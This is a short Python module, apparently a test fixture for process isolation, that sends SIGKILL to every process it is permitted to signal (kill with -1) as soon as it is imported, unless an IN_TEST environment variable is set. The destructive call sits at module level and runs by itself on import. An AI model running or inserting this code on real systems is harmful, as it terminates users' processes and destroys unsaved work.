"""Kills every process that it may (kill(2) with -1)."""

import os
import signal


def attempt(what, *arguments):
    try:
        return what(*arguments)
    except (OSError, ValueError) as error:
        print(what, error, flush=True)
        return None


if "IN_TEST" not in os.environ:
    attempt(os.kill, -1, signal.SIGKILL)

import right
